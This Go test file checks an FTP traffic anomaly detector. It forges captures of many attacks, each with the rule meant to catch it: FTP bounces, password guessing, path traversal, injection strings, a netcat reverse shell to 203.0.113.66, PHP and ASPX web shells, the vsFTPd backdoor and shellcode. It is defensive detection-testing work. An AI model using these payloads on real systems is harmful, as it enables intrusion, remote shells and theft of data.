// Attacks, with the rule that a specialist would name.

package baseline

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"ftplab/lab/analysis/baseline/rules"
	"ftplab/lab/internal/forge"
)

// attacks are what must be caught, and the rule that a specialist would name.
var attacks = []struct {
	name, rule string
	play       func(*forge.Capture)
}{
	{"a bounce to a mail server", "own-address", session1("> PORT 203,0,113,25,0,25\n< 200 ok\n> RETR letter\n< 150 here\n< 226 done")},
	{"a bounce scan", "own-address", session1("> PORT 192,0,2,80,0,80\n< 200 ok\n> LIST\n< 425 no\n> PORT 192,0,2,81,31,144\n< 200 ok\n> LIST\n< 226 done")},
	{"a bounce to a service of the server itself", "own-address", session1("> EPRT |1|127.0.0.1|6379|\n< 500 no\n> RETR a\n< 425 no")},
	{"a server that sends its client to one neighbour after the other", "own-address", session1(numberedLines(4, "> PASV\n< 227 (10,20,30,%d,31,144)\n> LIST\n< 425 no\n"))},
	{"a stranger that sends a file in the server's place", "data-with-the-partner", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PORT 198,51,100,100,12,100\n< 200 ok\n> RETR a")
		download(f, "203.0.113.66:20", aClient+":3172", opener, 55)
		t.Say("< 425 no connection").Say(bye).Peer.Close()
	}},
	{"a crowd that tries the names that everybody tries", "no-guessing", func(f *forge.Capture) {
		for i, user := range strings.Fields("admin root test guest oracle postgres user mysql backup support admin root test guest oracle postgres user mysql backup support") {
			wrongPassword(f, fmt.Sprintf("203.0.113.%d", i+1), user, user+"123")
		}
	}},
	{"passwords that end in a hang-up, at a person's pace", "no-guessing", func(f *forge.Capture) {
		for i := range 8 {
			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER ada\n< 331 and?\n> PASS Summer%d\n< 421 no, goodbye", i)).Peer.Close()
			f.Pass(10 * time.Minute)
		}
	}},
	{"a login before its password, and an acknowledgment of what nobody has sent", "reply-answers-command", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready\n> USER ada\n< 331 and?\n< 230 welcome")
		t.Seq += 500
		t.Peer.ACK()
		t.Seq -= 500
		t.Say("> PASS x\n> PWD\n< 257 \"/\"").Say(bye).Peer.Close()
	}},
	{"commands after both sides have closed", "fin-is-final", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(bye)
		t.Peer.Close()
		t.Say("> DELE plan.doc\n< 250 gone")
	}},
	{"a file after the FIN of its data connection", "fin-is-final", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,156,64)")
		c, s := f.Dial(aClient+":3172", aServer+":40000")
		t.Say("> RETR a\n< 150 here")
		s.Close()
		s.Send(strings.Repeat("x", 3000))
		c.ACK()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"the same, in a session that a RST ends", "reply-answers-command", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready\n> USER ada\n< 331 and?\n< 230 welcome")
		t.Seq += 500
		t.Peer.ACK()
		t.Seq -= 500
		t.Say("> PASS x\n> PWD\n< 257 \"/\"").Say(bye).RST()
	}},
	{"a picture that becomes a program", "no-known-exploits", session1("> RNFR up/me.jpg\n< 350 and?\n> RNTO up/me.php\n< 250 ok")},
	{"a picture that runs a script", "no-known-exploits", session1("> MKD <img src=x onerror=alert(1)>\n< 550 no")},
	{"a template", "no-known-exploits", dialogue("< 220 ready\n> USER {{7*7}}\n< 331 and?")},
	{"a name that ends a question of SQL", "no-known-exploits", dialogue("< 220 ready\n> USER admin' --\n< 331 and?")},
	{"a command of a shell in backquotes", "no-known-exploits", session1("> LIST `id`\n< 550 no")},
	{"a command of a shell after a semicolon", "no-known-exploits", session1("> CWD ;ls -la\n< 550 no")},
	{"stars and question marks", "no-known-exploits", session1("> STAT *?*?*?*?*?*?*\n< 550 no")},
	{"a bounce to a neighbour", "own-address", func(f *forge.Capture) {
		dial(f, "10.1.1.5", "10.1.2.9:21").Say(hello).Say("> PORT 10,1,1,6,31,64\n> QUIT\n< 221 bye").Close()
	}},
	{"a test of the bounce", "own-address", func(f *forge.Capture) {
		dial(f, "192.168.1.5", "192.168.1.9:21").Say(hello).Say("> PORT 203,0,113,62,80,80\n< 200 ok\n> QUIT\n< 221 bye").Close()
	}},
	{"five hundred PORTs", "own-address", func(f *forge.Capture) {
		t := dial(f, "10.0.0.1", "10.0.0.2:21").Say("< 220 ready")
		for i := range 500 {
			t.Say(fmt.Sprintf("> PORT 10,0,0,200,%d,%d", 80+i/256, i%256))
		}
	}},
	{"a greeting that is the answer to a password", "server-greets-first", dialogue("< 230 in\n> USER ada\n< 331 and?\n> PASS x\n< 230 in\n> QUIT\n< 221 bye")},
	{"a greeting that asks for a password", "server-greets-first", dialogue("< 331 and?\n> USER ada\n< 331 and?\n> PASS x\n< 230 in\n> QUIT\n< 221 bye")},
	{"all commands before the greeting", "server-greets-first", dialogue("> USER a\n> PASS b\n> SYST\n> QUIT\n< 220 ready\n< 331 x\n< 230 x\n< 215 x\n< 221 x")},
	{"a server that quits", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< 331 x\n> PASS p\n< 230 in\n> EPRT |1|198.51.100.100|5000|\n< 200 ok\n< QUIT\n< 221 bye")},
	{"a server that logs in", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< USER u\n> PASS p\n< PASS p\n< 230 in")},
	{"a line of a log that a name hides", "arguments-are-text", dialogue("< 220 ready\n> USER x\rOct 14 10:22:33 sshd[811]: Accepted password for root\n< 331 and?\n> PASS x\n< 530 no")},
	{"a command that a name hides", "arguments-are-text", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready")
		t.Segment("P.", "USER x\nDELE accounts.db\r\n")
		t.Say("< 331 and?\n< 530 no").Peer.Close()
	}},
	{"a name that clears the screen of who reads the log", "arguments-are-text", dialogue("< 220 ready\n> USER x\x1b[2J\x1b[1;31mOK\n< 331 and?\n> PASS x\n< 530 no")},
	{"the memory of the system", "no-sensitive-names", session1("> RETR /proc/kcore\n< 150 here\n< 226 done")},
	{"the memory of a process", "no-sensitive-names", session1("> CWD /proc/1\n< 250 ok\n> RETR environ\n< 150 here\n< 226 done")},
	{"the disk of the system", "no-sensitive-names", session1("> STOR /dev/nvme0n1\n< 553 no")},
	{"the volume of the system", "no-sensitive-names", session1("> RETR /dev/mapper/ubuntu--vg-root\n< 550 no")},
	{"the disk of the system, by its path", "no-sensitive-names", session1("> RETR /dev/disk/by-path/pci-0000:00:1f.2-ata-1\n< 550 no")},
	{"a disk of Windows", "no-sensitive-names", session1(`> RETR \\.\PhysicalDrive0` + "\n< 550 no")},
	{"a copy of a disk of Windows", "no-sensitive-names", session1(`> RETR \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\x` + "\n< 550 no")},
	{"a program with the name of a film", "no-programs", moved("STOR film.mp4", opener, "\x7fELF")},
	{"an answer in front of its question", "reply-answers-command", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready\n> USER a")
		t.Peer.Segment("P.", "331 ok\r\n550 BBBB")
		t.Say("> PWD")
		t.Peer.Segment("P.", "CCCC\r\n226 done\r\n")
	}},
	{"answers to another dialogue", "reply-fits-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n+ 550 no\n> PWD\n< 226 done")},
	{"a welcome before the password", "reply-answers-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n< 230 in\n> PASS x")},
	{"a name that overflows", "arguments-of-normal-length", session1("> RETR " + strings.Repeat("A", 4000) + "\n< 550 no")},
	{"a bar in front of a name", "no-known-exploits", session1("> NLST\n< 150 here\n< 226 done\n> RETR |touch x\n< 150 here\n< 226 done")},
	{"a shell's blank", "no-known-exploits", session1("> STOR a;curl${IFS}203.0.113.66\n< 553 no")},
	{"braces in braces", "no-known-exploits", session1("> STAT " + strings.Repeat("{{*},", 20) + "{.}" + strings.Repeat("}", 20) + "\n< 213 ok")},
	{"a new user of an AS/400", "no-known-exploits", session1("> RCMD CRTUSRPRF USRPRF(MALLORY) USRCLS(*SECOFR)\n< 250 ok")},
	{"a link to the passwords", "no-known-exploits", session1("> SITE SYMLINK /etc/shadow notes.txt\n< 200 ok")},
	{"traces that are removed", "files-are-kept", session1("> CWD /var/log\n< 250 ok\n> DELE wtmp\n< 250 ok\n> DELE lastlog\n< 250 ok")},
	{"ransomware with its owner's address", "no-known-exploits", session1(numberedLines(4, "> RETR a%[1]d.xls\n< 150 here\n< 226 done\n> STOR a%[1]d.xls.id-7F.[me@x.test].harma\n< 150 go on\n< 226 done\n> DELE a%[1]d.xls\n< 250 ok\n"))},
	{"a program whose name is nearly that of Windows'", "no-programs", moved("RETR svch0st.exe", answerer, "MZ\x90")},
	{"one program for each processor, in sessions of its own", "no-programs", func(f *forge.Capture) {
		for _, name := range strings.Fields("arm7 mips sh4 x86") {
			moved("RETR "+name, answerer, "\x7fELF\x01")(f)
		}
	}},
	{"a shell by way of a pipe with a name", "no-loot", moved("STOR REV", opener, "//STDPARM DD *\nSH mkfifo /tmp/f;cat /tmp/f|sh 2>&1|nc 203.0.113.66 4444 >/tmp/f\n")},
	{"a picture that runs with every page", "no-loot", moved("STOR .user.ini", opener, "auto_prepend_file = img/logo.gif\n")},
	{"a file of a printer", "no-loot", moved("STOR a.prn", opener, "\x1b%-12345X@PJL FSUPLOAD NAME=\"0:\\..\\..\\etc\\passwd\" OFFSET=0\r\n")},
	{"a file of a printer, in PostScript", "no-loot", moved("STOR a.ps", opener, "%!PS\n/s 99 string def (/../../../etc/passwd) (r) file s readstring\n")},
	{"a link that is a folder, too", "no-climbing", moved("LIST", answerer, "lrwxrwxrwx   1 root root   11 Oct 28  2014 x -> /root/.ssh\r\ndrwxrwxr-x  15 root root 4096 Oct 28  2014 x\r\n")},
	{"Heartbleed", "no-known-exploits", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go on")
		t.Segment("P.", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03")
		t.Segment("P.", "\x18\x03\x02\x00\x03\x01\x40\x00")
		t.Peer.Close()
	}},
	{"an upload that the server sends to a cache beside the client", "own-address", func(f *forge.Capture) {
		t := dial(f, "10.9.0.8", aServer+":21").Say(hello).Say("> PASV\n< 227 (10,9,0,5,43,203)\n> STOR a\n< 150 go on")
		download(f, "10.9.0.8", "10.9.0.5:11211", opener, 55)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a user that overflows", "arguments-of-normal-length", dialogue("< 220 ready\n> USER " + strings.Repeat("Aa0", 100) + "\n< 331 go on")},
	{"a verb that overflows", "arguments-of-normal-length", session1("> TYP" + strings.Repeat("E", 120) + " I\n< 200 ok")},
	{"folders that overflow a path", "arguments-of-normal-length", session1(strings.Repeat("> MKD "+strings.Repeat("A", 240)+"\n< 257 ok\n> CWD "+strings.Repeat("A", 240)+"\n< 250 ok\n", 6))},
	{"a PORT that is none", "announcement-well-formed", dialogue("< 220 ready\n> PORT AAAAAAAAAAAAAAAAAAAAAAAAAAA\n+ QUIT\n< 221 bye")},
	{"an answer without a code", "reply-well-formed", session1("> SYST\n< SYST not supported")},
	{"a code without a blank", "reply-well-formed", session1("> RETR a\n< 230_no_space")},
	{"a reply that overflows", "reply-of-normal-length", session1("> PASV\n< 227 " + strings.Repeat("A", 9000))},
	{"a listing that overflows", "reply-of-normal-length", moved("LIST", answerer, "-rw-r--r-- 1 0 0 9 Jan 1 2020 a\r\n-rw-r--r-- 1 0 0 9 Jan 1 2020 "+strings.Repeat("A", 1300))},
	{"a greeting that overflows", "reply-of-normal-length", dialogue("< 220 " + strings.Repeat("A", 600) + "\n> QUIT\n< 221 bye")},
	{"machine code in a reply", "reply-of-normal-length", session1("> PWD\n< 257 " + strings.Repeat("\x90", 16) + "\xeb\x06")},
	{"SSH", "ftp-at-the-ftp-port", ruleTests["ftp-at-the-ftp-port"].breaks},
	{"a binary protocol", "ftp-at-the-ftp-port", func(f *forge.Capture) {
		t := f.Control()
		t.Segment("P.", "\x01\x00\x00\x00\x10\x00\x00\x00beacon\x00\x01")
		t.Peer.Segment("P.", "\x02\x00\x00\x00\x08\x00\x00\x00")
		t.Close()
	}},
	{"a binary protocol that is not answered", "ftp-at-the-ftp-port", func(f *forge.Capture) {
		t := f.Control()
		t.Segment("P.", "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example")
		t.Peer.ACK()
		t.Close()
	}},
	{"RDP at an FTP server", "ftp-at-the-ftp-port", func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready")
		t.Segment("P.", "\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
		t.Say("< 500 what?").Close()
	}},
	{"RSTs that guess at the sequence numbers, from far away", "resets-are-final", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> RETR a")
		for i := range 3 {
			t.Peer.SegmentAt(1460*i, "R", "")
			hops(f, 0, 47)
		}
	}},
	{"somebody else goes on in the client's place", "packets-come-one-way", func(f *forge.Capture) {
		t := overhear(f, aClient, aServer+":21")
		for _, lines := range []string{"< 220 ready\n> USER ada", "< 331 and?\n> PASS x", "< 230 in\n> PWD", "< 257 \"/\"\n> NOOP"} {
			t.Options = slices.Concat([]byte{1, 1, 8, 10}, make([]byte, 8)) // time stamps
			t.Say(lines)
		}
		for _, lines := range []string{"< 200 ok\n> PWD", "< 257 \"/\"\n> NOOP", "< 200 ok\n> PWD", "< 257 \"/\"\n> DELE plan.txt", "< 250 gone\n> NOOP"} {
			t.Say(lines)
			hops(f, 0, 113)
		}
	}},
	{"a command that fragments write over another", "retransmission-repeats", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		t.Segment("P.", "RETR harmless.txt\r\n")
		whole := *f.Last(0)
		evil := slices.Clone(whole.Data)
		copy(evil[54:], "DELE important.db")
		f.Drop(0)
		fragment(f, whole.Data, 0, 32, true)
		fragment(f, evil, 16, 32, true)
		fragment(f, whole.Data, 32, len(whole.Data)-34, false)
		t.Say("< 250 ok").Say(bye).Peer.Close()
	}},
	{"RSTs that guess at the sequence numbers of a data connection", "resets-are-final", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		d.Peer.Send("the beginning")
		d.Peer.Send("and more")
		for i := range 3 {
			d.Peer.SegmentAt(1460*i, "R", "")
			hops(f, 0, 47)
		}
		t.Say("< 426 broken off").Say(bye).Peer.Close()
	}},
	{"a web request", "commands-are-ftp", dialogue("< 220 ready\n> GET / HTTP/1.1\n+ Host: x\n< 500 what?\n< 500 what?")},
	{"SITE EXEC, of somebody who asks who he is there", "no-known-exploits", session1("> SITE EXEC id\n< 500 no")},
	{"a program with the ending of a document in front of its own", "no-programs", anonymousMoves([2]string{"RETR pub/invoice.pdf.exe", "MZ\x90"})},
	{"a program with the ending of a picture, and blanks", "no-programs", moves([2]string{"STOR me.jpg          .scr", "MZ\x90"})},
	{"a program whose name is turned round", "no-programs", anonymous("> RETR inv\u202efdp.exe\n< 150 here\n< 226 done")},
	{"a channel in a command that nobody knows", "no-signs-agree", session1(numberedText(12, "> XDAT %s\n< 200 ok\n"))},
	{"SITE EXEC", "no-known-exploits", session1("> SITE EXEC /bin/sh -c id\n< 200 ok")},
	{"memory read by SITE EXEC", "no-format-strings", session1("> SITE EXEC %.f%.f%.f%.f|%p\n< 200 x")},
	{"machine code", "arguments-are-text", session1("> MKD " + strings.Repeat("\x90", 100) + "\x31\xc0\x31\xdb\xcd\x80/bin/sh\n< 550 no")},
	{"a traversal", "no-climbing", session1("> RETR ../../../../../../etc/passwd\n< 150 here\n< 226 done")},
	{"a traversal in disguise", "no-climbing", session1("> RETR ..%5c..%5cboot.ini\n< 550 no")},
	{"a traversal with dots", "no-climbing", session1("> CWD ..../..../windows\n< 250 ok\n> RETR .../.../x\n< 550 no")},
	{"a traversal by names of points", "no-climbing", session1("> CWD .../...\n< 550 no")},
	{"a traversal in overlong points", "no-climbing", session1("> CWD \xc0\xae\xc0\xae/\xc0\xae\xc0\xae/\n< 550 no")},
	{"a traversal in overlong points of three bytes", "no-climbing", session1("> RETR \xe0\x80\xae\xe0\x80\xae/etc/issue\n< 550 no")},
	{"a traversal in overlong points, encoded", "no-climbing", session1("> NLST %c0%ae%c0%ae/%c0%ae%c0%ae/\n< 550 no")},
	{"a traversal above the root", "no-climbing", session1("> RETR /./../././../etc/issue\n< 550 no")},
	{"the smiley", "no-known-exploits", func(f *forge.Capture) {
		t := f.Control().Say("< 220 (vsFTPd 2.3.4)\n> USER letmein:)\n< 331 go on\n> PASS x")
		dial(f, aClient, aServer+":6200").Say("> id\n< uid=0(root)").Close()
		t.Segment("R.", "")
	}},
	{"a look-up", "no-known-exploits", dialogue("< 220 ready\n> USER ${jndi:ldap://203.0.113.66/a}\n< 331 go on")},
	{"injected SQL", "no-known-exploits", dialogue("< 220 ready\n> USER %') and 1=2 union select 1,1,uid,gid from ftp; --\n< 331 go on\n> PASS 1\n< 230 in")},
	{"loot", "no-known-exploits", session1("> PASV\n< 227 (192,0,2,21,100,0)\n> STOR PW_admin-DESKTOP-1_2023_01_31_12_00_00.html\n< 150 here\n< 226 done")},
	{"a dictionary in one session", "no-guessing", func(f *forge.Capture) {
		t := f.Control().Say("< 220 hi")
		for i := range 12 {
			f.Pass(10 * time.Second)
			t.Say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
		}
	}},
	{"a dictionary that finds the word", "no-guessing", func(f *forge.Capture) {
		for i := range 7 {
			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i)).Close()
		}
		f.Control().Say(hello)
	}},
	{"a dictionary of which the answers are seen", "no-guessing", func(f *forge.Capture) {
		for range 12 {
			overhear(f, aClient, aServer+":21").Say("< 530 no")
		}
	}},
	{"a dictionary without its answers", "no-guessing", func(f *forge.Capture) {
		for i := range 12 {
			overhear(f, aClient, aServer+":21").Say(fmt.Sprintf("> USER admin\n> PASS pw%d", i))
		}
	}},
	{"a sweep", "no-scans", func(f *forge.Capture) {
		knocks(f, 30, func(i int) string { return fmt.Sprintf("192.0.2.%d:21", i+1) })
	}},
	{"a sweep that waits for the greeting, once an hour", "no-scans", func(f *forge.Capture) {
		for i := range 12 {
			dial(f, aClient, fmt.Sprintf("192.0.%d.21:21", i)).Say("< 220 ready").Close()
			f.Pass(time.Hour)
		}
	}},
	{"a sweep of a web server's port, and then a session", "no-scans", func(f *forge.Capture) {
		for i := range 15 {
			refuse(f, aClient, fmt.Sprintf("192.0.2.%d:8080", i+10))
		}
		session1("")(f)
	}},
	{"a scan, and then a session", "no-scans", func(f *forge.Capture) {
		scan(f, time.Second, 20)
		session1("")(f)
	}},
	{"a scan with acknowledgments, of which each packet was recorded twice", "no-scans", func(f *forge.Capture) {
		for i := range 12 {
			t := overhear(f, aClient, addrPort(aServer, 20+i))
			t.Segment(".", "")
			f.Frames = append(f.Frames, f.Frames[len(f.Frames)-1])
			t.Peer.Segment("R", "")
			f.Frames = append(f.Frames, f.Frames[len(f.Frames)-1])
		}
	}},
	{"a scan with flags that begin nothing", "no-scans", func(f *forge.Capture) {
		for i := range 12 {
			t := overhear(f, aClient, addrPort(aServer, 20+i))
			t.Segment("FPU", "")
			t.Peer.Segment("R.", "")
		}
	}},
	{"a shell at a third port", "no-third-ports", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		dial(f, aServer, aClient+":4444").Say("> Microsoft Windows [Version 10.0.1]\n< dir").Close()
		t.Say(bye).Peer.Close()
	}},
	{"the port of a back door", "no-third-ports", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		dial(f, aClient, aServer+":6200").Say("> open\n< sesame").Close()
		t.Say(bye).Peer.Close()
	}},
	{"forty passwords, one in two minutes", "no-guessing", func(f *forge.Capture) {
		for i := range 40 {
			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 530 no", i) + bye).Close()
			f.Pass(2 * time.Minute)
		}
	}},
	{"five famous passwords, and then the right one", "no-guessing", func(f *forge.Capture) {
		for _, p := range []string{"123456", "admin", "password", "letmein", "qwerty"} {
			f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS " + p + "\n< 530 no" + bye).Close()
			f.Pass(time.Minute)
		}
		f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS monkey\n< 230 in\n> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no" + bye).Close()
	}},
	{"one password at many servers", "no-guessing", func(f *forge.Capture) {
		for i := range 12 {
			dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).Say("< 220 hi\n> USER root\n< 331 and?\n> PASS winter\n< 530 no" + bye).Close()
		}
	}},
	{"one user from many clients", "no-guessing", func(f *forge.Capture) {
		for i := range 12 {
			dial(f, fmt.Sprintf("198.51.100.%d", i+10), aServer+":21").Say(fmt.Sprintf("< 220 hi\n> USER root\n< 331 and?\n> PASS pw%d\n< 530 no", i) + bye).Close()
		}
	}},
	{"a name with another after a zero byte", "arguments-are-text", session1("> RETR a.php\x00.jpg\n< 150 here\n< 226 done")},
	{"a command after an encoded line end", "no-known-exploits", session1("> RETR a%0d%0aDELE b\n< 550 no")},
	{"the accounts of the server", "no-signs-agree", moved("RETR /etc/passwd", answerer, "root:x:0:0:root:/root:/bin/bash\n")},
	{"data in the names of folders", "names-are-words", session1(encodedFolders(10))},
	{"orders, and data in the names of folders", "no-signs-agree", session1(strings.Repeat("> RETR news.txt\n< 150 here\n< 226 done\n", 20) + encodedFolders(5))},
	{"the keys of a keyboard", "no-loot", moved("STOR log_7.txt", opener, "[Window: Mail]\nada[TAB]secret[ENTER]\n")},
	{"an archive of stolen passwords", "no-loot", moved("STOR DESKTOP-7.zip", opener, "PK\x03\x04\x14\x00\x00\x00\x08\x00a date, and sizes Passwords.txt and more Autofills/")},
	{"a web page of .NET that runs what it is sent", "no-loot", moved("STOR a.aspx", opener, `<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>`)},
	{"connections that only wait", "calls-are-meant", func(f *forge.Capture) {
		for range 60 {
			f.Control().Say("< 220 ready")
		}
	}},
	{"a traversal in two steps", "no-climbing", session1("> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no")},
	{"a web shell after a long page", "no-loot", moved("STOR about.php", opener, strings.Repeat(webPage, 100)+`<?php @eval(base64_decode($_POST["z0"])); ?>`)},
	{"a shell of .NET", "no-loot", moved("STOR about.aspx", opener, `<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`)},
	{"a test whether everybody may write", "no-known-exploits", session1("> MKD 040103120000p\n< 550 no")},
	{"a folder of the system, and its accounts", "no-signs-agree", session1("> CWD ../../etc\n< 250 ok\n> CWD /\n< 250 ok\n> RETR etc/passwd\n< 550 no")},
	{"an odd port and odd words", "no-signs-agree", func(f *forge.Capture) {
		dial(f, aClient, aServer+":31337").Say(hello).Say("> SHELL\n< 200 ok\n> INJECT 7\n< 200 ok").Say(bye).Peer.Close()
	}},
	{"five programs, and a record stored again and again", "no-signs-agree", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for _, name := range []string{"q", "w", "e", "r", "t"} {
			t.Say("> RETR " + name + ".exe\n< 150 here\n< 226 done")
		}
		t.Say(strings.Repeat("> STOR record.dat\n< 150 go on\n< 226 done\n", 5)).Say(bye).Peer.Close()
	}},
	{"a program with the name of a picture, and a tool", "no-programs", func(f *forge.Capture) {
		moved("RETR holiday.jpg", answerer, "MZ\x90")(f)
		moved("STOR id_rsa", opener, "----")(f)
	}},
	{"the greeting of a worm", "no-known-exploits", func(f *forge.Capture) {
		dial(f, aClient, aServer+":9604").Say("< 220 StnyFtpd 0wns j0\n> USER 1\n< 331 x\n> PASS 1\n< 230 x").Close()
	}},
	{"nothing fits, a reply too many, and then it dies", "no-signs-agree", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> TYPE I\n< 226 ok\n> PWD\n< 257 \"/\"\n< 257 \"/\"\n> SYST")
		t.Peer.Segment("R.", "")
	}},
	{"a bounce to a host inside", "own-address", func(f *forge.Capture) {
		t := dial(f, "203.0.113.5", "10.0.0.2:21").Say(hello).Say("> PORT 10,0,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
		download(f, "10.0.0.2:20", "10.0.0.200:8000", opener, 500)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a bounce to a host in another network inside", "own-address", func(f *forge.Capture) {
		t := dial(f, "203.0.113.5", "10.0.0.2:21").Say(hello).Say("> PORT 10,7,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
		download(f, "10.0.0.2:20", "10.7.0.200:8000", opener, 500)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a bounce from host to host inside", "own-address", session1(numberedLines(5, "> PORT 10,0,0,%d,31,144\n< 200 ok\n> LIST\n< 425 no\n"))},
	{"CWD for ever", "no-floods", func(f *forge.Capture) {
		overhear(f, aClient, aServer+":21").Say("< 220 hi\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n" + strings.Repeat("> CWD /\n< 250 ok\n", 10) + "> QUIT\n< 221 bye")
	}},
	{"ports used up", "announcement-used", session1(strings.Repeat("> PASV\n< 227 (192,0,2,21,100,0)\n", 30))},
	{"a stolen download", "data-with-the-partner", ruleTests["data-with-the-partner"].breaks},
	{"a shell on a data connection", "data-flows-one-way", ruleTests["data-flows-one-way"].breaks},
	{"commands out of two captures", "retransmission-repeats", func(f *forge.Capture) {
		t := overhear(f, aClient, aServer+":21")
		t.Segment("P.", "USER one\r\n")
		t.SegmentAt(-10, "P.", "FEAT two\r\n")
		t.Peer.Segment("P.", "250 ok\r\n")
		t.Peer.SegmentAt(-8, "P.", "226 no\r\n")
	}},
}

// fragment adds a fragment of the IPv4 datagram in a frame.
func fragment(f *forge.Capture, frame []byte, from, to int, more bool) {
	const header = 14 + 20
	field := uint16(from / 8)
	if more {
		field |= 0x2000
	}
	part := append(slices.Clone(frame[:header]), frame[header+from:header+to]...)
	binary.BigEndian.PutUint16(part[16:], uint16(len(part)-14))
	binary.BigEndian.PutUint16(part[20:], field)
	f.Frame(part)
	hops(f, 0, part[22]) // and the checksum
}

// encodedFolders makes folders with names that are texts in base64.
func encodedFolders(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "> MKD %s\n< 257 ok\n", base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "the %d. part of it", i)))
	}
	return b.String()
}

// numberedText fills random bytes in base64 into a line.
func numberedText(n int, line string) string {
	var b strings.Builder
	for i := range n {
		sum := sha256.Sum256([]byte{byte(i)})
		fmt.Fprintf(&b, line, base64.StdEncoding.EncodeToString(sum[:21]))
	}
	return b.String()
}

func TestAttacks(t *testing.T) {
	for _, test := range attacks {
		t.Run(test.name, func(t *testing.T) {
			got := forged(t, test.play)
			if got.Verdict != NotNormal || count(got, test.rule, rules.Violation) == 0 {
				t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
			}
		})
	}
}
